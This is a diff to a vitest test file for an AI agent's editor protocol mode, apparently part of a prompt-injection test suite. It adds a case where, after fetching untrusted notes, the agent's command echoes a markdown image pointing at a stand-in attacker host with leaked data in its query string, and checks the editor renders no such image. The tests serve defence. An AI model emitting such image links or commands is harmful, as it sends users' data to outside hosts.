@@ -7,7 +7,7 @@
 // shows in a fenced block is left as written. A run that read nothing untrusted answers as before.
 import { methods } from "@agentclientprotocol/sdk";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
-import { type AcpProcess, acpEnv, agentText, pick, startAcp } from "../../support/acp-client.js";
+import { type AcpProcess, acpEnv, agentText, pick, startAcp, updatesOf } from "../../support/acp-client.js";
 import { runCli } from "../../support/cli.js";
 import { fakeModelArgs, useCliFixture } from "../../support/cli-fixture.js";
 import { type Attackers, attack, call, configureHome, env, startAttackers } from "./scenario.js";
@@ -84,9 +84,14 @@ describe("injection: what a run read cannot leave through an image its answer wo
     expect(hosts.other.received).toEqual([]);
   });
 
-  it("reson acp: the editor is sent no image to render", async () => {
+  it("reson acp: the editor is sent no image to render, in the answer or a call's command and output", async () => {
     const origin = hosts.other.origin;
-    f.server.enqueue(call("web_fetch", { url: `${hosts.allowed.origin}/notes` }), { text: answer(origin) });
+    const pixel = `![s](${origin}/c.png?d=${LEAK})`;
+    f.server.enqueue(
+      call("web_fetch", { url: `${hosts.allowed.origin}/notes` }),
+      call("execute_command", { command: `echo '${pixel}'` }),
+      { text: answer(origin) },
+    );
     acp = startAcp({ env: acpEnv(f), answer: pick("allow_once") });
     await acp.initialize();
     const { sessionId } = await acp.connection.agent.request(methods.agent.session.new, {
@@ -100,6 +105,18 @@ describe("injection: what a run read cannot leave through an image its answer wo
     const shown = agentText(acp.updates);
     expect(shown).toContain("[image: status]");
     expect(loads(shown, origin), shown).toBe(false);
+    const calls = JSON.stringify([
+      ...updatesOf(acp.updates, "tool_call"),
+      ...updatesOf(acp.updates, "tool_call_update"),
+      ...acp.permissionRequests.map((request) => request.toolCall),
+    ]);
+    expect(calls).toContain("[image: s](");
+    // Only rawInput, which the editor does not render, keeps the command exactly.
+    expect(calls.split("![s](").length - 1).toBe(
+      updatesOf(acp.updates, "tool_call").filter((update) =>
+        JSON.stringify(update.rawInput ?? {}).includes("![s]("),
+      ).length,
+    );
   });
 
   it("a run that read nothing untrusted answers as before (control)", async () => {
